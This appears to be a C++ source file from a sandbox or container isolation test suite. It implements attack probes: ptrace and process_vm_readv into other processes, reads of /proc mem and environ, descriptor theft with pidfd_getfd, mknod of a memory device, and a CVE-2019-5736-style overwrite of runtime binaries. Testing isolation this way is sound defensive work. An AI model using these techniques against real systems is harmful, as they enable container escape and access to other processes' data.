#include "attacks.h"

#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <functional>
#include <map>
#include <set>
#include <stdexcept>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

using Args = std::vector<std::string>;

using attacks::tell;

// True where it could be opened and, for reading, has at least one byte.
bool can_open(const std::string& path, int flags) {
    errno = 0;
    const int fd = open(path.c_str(), flags | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return false;
    close(fd);
    return true;
}

bool can_read(const std::string& path) {
    errno = 0;
    const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    char byte = 0;
    const bool got = fd >= 0 && read(fd, &byte, 1) == 1;
    const int error = got ? 0 : errno ? errno : ENODATA;
    if (fd >= 0)
        close(fd);
    errno = error;
    return got;
}

bool can_follow(const std::string& link) {
    char target[4096];
    errno = 0;
    return readlink(link.c_str(), target, sizeof target) > 0;
}

char marker = 'm'; // every testbin has it at the same address: it is linked statically

// process PID: into another process of this PID namespace.
int attack_process(const Args& args) {
    const auto proc = "/proc/" + args.at(0);
    const auto pid = static_cast<pid_t>(std::stol(args[0]));
    errno = 0;
    tell("trace", ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0);
    ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    char byte = 0;
    iovec ours{&byte, 1}, theirs{&marker, 1};
    errno = 0;
    tell("read-memory", process_vm_readv(pid, &ours, 1, &theirs, 1, 0) == 1);
    tell("memory-file", can_open(proc + "/mem", O_RDWR));
    tell("environment", can_read(proc + "/environ"));
    tell("maps", can_read(proc + "/maps"));
    tell("descriptor", can_follow(proc + "/fd/0"));
    tell("program", can_open(proc + "/exe", O_RDONLY));
    tell("program-path", can_open(proc + "/exe", O_PATH));
    tell("root", can_open(proc + "/root/", O_PATH));
    tell("cwd", can_open(proc + "/cwd/", O_PATH));
    tell("namespace", can_open(proc + "/ns/user", O_RDONLY));
    errno = 0;
    const int pidfd = static_cast<int>(syscall(SYS_pidfd_open, pid, 0));
    tell("steal-descriptor", pidfd >= 0 && syscall(SYS_pidfd_getfd, pidfd, 0, 0) >= 0);
    return 0;
}

// neighbours [PID…]: how many processes can be signalled, besides init, ourselves and those that are named.
int attack_neighbours(const Args& args) {
    std::set<pid_t> known = {1, getpid(), getppid()};
    for (const auto& pid : args)
        known.insert(static_cast<pid_t>(std::stol(pid)));
    int found = 0;
    for (pid_t pid = 2; pid < 70'000; ++pid)
        if (!known.contains(pid) && kill(pid, 0) == 0)
            ++found;
    std::printf("signalled %d\n", found);
    return 0;
}

// write PATH…: a byte into each.
int attack_write(const Args& args) {
    for (const auto& path : args) {
        errno = 0;
        const int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
        tell(path, fd >= 0 && write(fd, "1", 1) == 1);
        if (fd >= 0)
            close(fd);
    }
    return 0;
}

// read PATH…: a byte out of each.
int attack_read(const Args& args) {
    for (const auto& path : args)
        tell(path, can_read(path));
    return 0;
}

// nodes FOLDER…: makes devices there, and uses them.
int attack_nodes(const Args& args) {
    for (const auto& folder : args) {
        const auto path = folder + "/node";
        errno = 0;
        const bool made = mknod(path.c_str(), S_IFCHR | 0666, makedev(1, 1)) == 0; // the machine's memory
        tell("make " + folder, made);
        if (made) {
            tell("use " + folder, can_open(path, O_RDWR));
            unlink(path.c_str());
        }
    }
    return 0;
}

// overwrite SECONDS: opens the programs of processes that come and go, and writes to each as soon as it runs no more
// (CVE-2019-5736).
int attack_overwrite(const Args& args) {
    const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(std::stod(args.at(0)));
    struct stat own{};
    stat("/proc/self/exe", &own);
    std::map<std::pair<dev_t, ino_t>, int> grabbed;
    int written = 0;
    std::puts("ready");
    while (std::chrono::steady_clock::now() < end) {
        for (pid_t pid = 3; pid < 200; ++pid) {
            const int fd = open(("/proc/" + std::to_string(pid) + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
            struct stat info{};
            if (fd < 0)
                continue;
            if (fstat(fd, &info) < 0 || (info.st_dev == own.st_dev && info.st_ino == own.st_ino) ||
                !grabbed.try_emplace({info.st_dev, info.st_ino}, fd).second)
                close(fd);
        }
        for (const auto& [file, fd] : grabbed) {
            errno = 0;
            const int out = open(("/proc/self/fd/" + std::to_string(fd)).c_str(), O_WRONLY | O_CLOEXEC);
            if (out >= 0 && write(out, "#!x\n", 4) == 4)
                ++written;
            if (out >= 0)
                close(out);
        }
    }
    std::printf("grabbed %zu\n", grabbed.size());
    std::printf("written %s\n", written > 0 ? "yes" : "no");
    return 0;
}

const std::map<std::string, std::function<int(const Args&)>> kAttacks = {
    {"process", attack_process}, {"neighbours", attack_neighbours}, {"write", attack_write},
    {"read", attack_read},       {"nodes", attack_nodes},           {"overwrite", attack_overwrite},
};

} // namespace

int cmd_attack(const Args& args) {
    for (const auto* table : {&attacks::ways_out(), &attacks::exhaustion()})
        if (const auto found = table->find(args.at(0)); found != table->end())
            return found->second(Args(args.begin() + 1, args.end()));
    return kAttacks.at(args.at(0))(Args(args.begin() + 1, args.end()));
}
